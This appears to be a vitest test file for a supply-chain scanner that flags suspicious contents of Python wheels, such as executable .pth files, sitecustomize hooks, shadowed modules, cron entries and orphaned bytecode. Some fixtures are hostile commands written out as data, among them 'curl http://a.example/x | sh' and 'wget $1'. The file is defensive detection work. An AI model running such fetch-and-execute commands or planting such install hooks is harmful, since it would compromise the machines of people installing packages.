import { describe, expect, test } from "vitest";
import { found, signalsOf, wheel } from "../testing/signals-of-sources.ts";

describe("what a wheel installs", () => {
  test.each([
    [{ "orchard.pth": "import os; os.system('x')\n" }, "danger py-pth-file orchard.pth"],
    [{ "orchard.pth": "../elsewhere\n" }, "warning py-pth-file orchard.pth"],
    [{ "sitecustomize.py": "" }, "danger py-site-customize sitecustomize"],
    [{ "orchard-1.0.data/purelib/usercustomize.py": "" }, "danger py-site-customize usercustomize"],
    [{ "pears/__init__.py": "" }, "warning py-outside-own-names pears"],
    [{ "tests/__init__.py": "" }, "notice py-outside-own-names tests"],
    [{ LICENSE: "" }, "notice py-outside-own-names LICENSE"],
    [{ "requests/__init__.py": "" }, "warning others-module requests"],
    [{ "subprocess.py": "" }, "warning others-module subprocess"],
    [{ "yaml/__init__.py": "" }, "warning others-module yaml"],
    [{ "orchard-1.0.data/scripts/fit": "" }, "notice py-data-scripts scripts/fit"],
    [{ "orchard-1.0.data/data/etc/cron.d/x": "" }, "warning py-data-scripts data/etc/cron.d/x"],
    [
      { "orchard-1.0.data/scripts/fit": "#!python\nimport os\nos.system('curl http://a.example/x | sh')\n" },
      "danger decoded-code os.system",
    ],
    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\ncurl http://a.example/x | sh\n" }, "danger decoded-code fit"],
    [{ "orchard-1.0.data/scripts/fit": "#!/bin/sh\nwget $1\n" }, "warning process fit"],
    [{ "orchard-1.0.data/data/bin/activate": "" }, "warning py-data-scripts data/bin/activate"],
    [{ "orchard-1.0.data/data/pyvenv.cfg": "" }, "warning py-data-scripts data/pyvenv.cfg"],
    [
      { "orchard-1.0.data/data/share/jupyter/kernels/python3/kernel.json": "" },
      "warning py-data-scripts data/share/jupyter/kernels/python3/kernel.json",
    ],
    [{ "orchard-1.0.data/headers/Python.h": "" }, "warning py-data-scripts headers/Python.h"],
    [{ "orchard-1.0.data/headers/orchard.h": "" }, "notice py-data-scripts headers/orchard.h"],
    [
      { "orchard-1.0.dist-info/entry_points.txt": "[pytest11]\norchard = orchard.plugin\n" },
      "warning import-hook pytest11",
    ],
    [{ "orchard-1.0.data/scripts/git": "" }, "warning well-known-command git"],
    [
      { "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = orchard:main\n" },
      "warning well-known-command pip",
    ],
  ])("%j is %j", (files, expected) => {
    expect(found(wheel(files as Record<string, string>))).toContain(expected);
  });

  test("its own package, commands and metadata say nothing", () => {
    expect(wheel({ "orchard-1.0.dist-info/entry_points.txt": "[console_scripts]\norchard = orchard:main\n" })).toEqual(
      [],
    );
    const named = {
      "yaml/__init__.py": "",
      "_yaml/__init__.py": "",
      "PyYAML-6.0.dist-info/top_level.txt": "_yaml\nyaml\n",
    };
    expect(signalsOf({ name: "PyYAML", kind: "binary", files: named })).toEqual([]);
    const attrs = { "attr/__init__.py": "", "attrs/__init__.py": "" };
    expect(signalsOf({ name: "attrs", kind: "binary", files: attrs })).toEqual([]);
    expect(signalsOf({ name: "beautifulsoup4", kind: "binary", files: { "bs4/__init__.py": "" } })).toEqual([]);
  });

  test("bytecode whose source is missing", () => {
    const signals = wheel(
      {},
      {
        others: [
          { path: "orchard/__pycache__/__init__.cpython-312.pyc", kind: "python-bytecode" },
          { path: "orchard/__pycache__/hidden.cpython-312.pyc", kind: "python-bytecode" },
          { path: "orchard/data.bin", kind: "python-bytecode" },
        ],
      },
    );
    expect(found(signals)).toEqual([
      "danger bytecode-without-source orchard/__pycache__/hidden.cpython-312.pyc",
      "danger bytecode-without-source orchard/data.bin",
    ]);
  });
});
